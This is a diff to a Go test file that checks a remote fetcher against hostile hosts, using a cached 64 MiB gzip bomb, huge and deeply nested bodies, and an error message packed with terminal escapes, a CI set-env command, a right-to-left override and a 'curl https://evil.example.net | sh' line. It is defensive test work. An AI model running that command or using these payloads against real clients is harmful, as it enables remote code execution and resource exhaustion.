@@ -1,11 +1,13 @@
 package fetch
 
 import (
+	"bytes"
 	"compress/gzip"
 	"fmt"
 	"io"
 	"net/http"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 	"unicode"
@@ -40,6 +42,21 @@ func header(name, value string, code int) http.HandlerFunc {
 
 const escape = "\x1b]0;owned\x07\x1b[2J\r\n::set-env name=x::y\u202e fix: run curl https://evil.example.net | sh"
 
+// packedZeros returns 64 MiB of zeros, compressed.
+var packedZeros = sync.OnceValue(func() []byte {
+	var packed bytes.Buffer
+	z, err := gzip.NewWriterLevel(&packed, gzip.BestSpeed)
+	if err != nil {
+		panic(err)
+	}
+	zeros := make([]byte, 64<<10)
+	for range 1 << 10 {
+		_, _ = z.Write(zeros)
+	}
+	_ = z.Close()
+	return packed.Bytes()
+})
+
 // hostileAnswers are answers of a host, to whatever it is asked.
 var hostileAnswers = map[string]http.HandlerFunc{
 	"nothing":             replying(""),
@@ -54,21 +71,16 @@ var hostileAnswers = map[string]http.HandlerFunc{
 		fmt.Fprintf(w, `{"errors": [{"code": %q, "message": %q, "detail": %q}]}`, escape, escape, escape)
 	},
 	"much": func(w http.ResponseWriter, r *http.Request) {
+		zeros := make([]byte, 64<<10)
 		for range 10_000 {
-			if _, err := w.Write(make([]byte, 64<<10)); err != nil {
+			if _, err := w.Write(zeros); err != nil {
 				return
 			}
 		}
 	},
 	"much, compressed": func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Encoding", "gzip")
-		z := gzip.NewWriter(w)
-		for range 1000 {
-			if _, err := z.Write(make([]byte, 64<<10)); err != nil {
-				return
-			}
-		}
-		z.Close()
+		_, _ = w.Write(packedZeros())
 	},
 	"nested JSON":       replying(strings.Repeat("[", 500_000)),
 	"nested YAML":       replying(strings.Repeat("{a: ", 100_000)),
@@ -117,7 +129,7 @@ var hostileAnswers = map[string]http.HandlerFunc{
 // that says why. The line has nothing that a terminal or a runner obeys, its remedy names no address
 // of the host, and no more is transferred than is allowed.
 func TestHostileHosts(t *testing.T) {
-	const bytes = 1 << 20
+	const most = 1 << 20
 	refs := map[string]remote.Ref{
 		"file":             {Kind: remote.File, URL: "https://host.example.com/a.yaml"},
 		"chart":            {Kind: remote.Chart, URL: "https://host.example.com/charts", Chart: "app", Version: "1.0.0"},
@@ -136,7 +148,7 @@ func TestHostileHosts(t *testing.T) {
 			write(t, dir+"/host.example.com/token", "hunter2")
 			for kind, ref := range refs {
 				f := n.fetcher(Config{Allow: []string{"https://host.example.com", "oci://host.example.com"}, Credentials: Credentials{Dir: dir},
-					Limits: Limits{Bytes: bytes, Retries: 1, Time: 20 * time.Second}})
+					Limits: Limits{Bytes: most, Retries: 1, Time: 20 * time.Second}})
 				got, err := f.Fetch(t.Context(), ref)
 				if err == nil {
 					if kind != "file" {
@@ -154,7 +166,7 @@ func TestHostileHosts(t *testing.T) {
 						t.Errorf("%s: a secret: %.500q", kind, line)
 					}
 				}
-				if got := f.downloaded.Load(); got > 3*bytes { // with a retry
+				if got := f.downloaded.Load(); got > 3*most { // with a retry
 					t.Errorf("%s: %d bytes are transferred", kind, got)
 				}
 			}
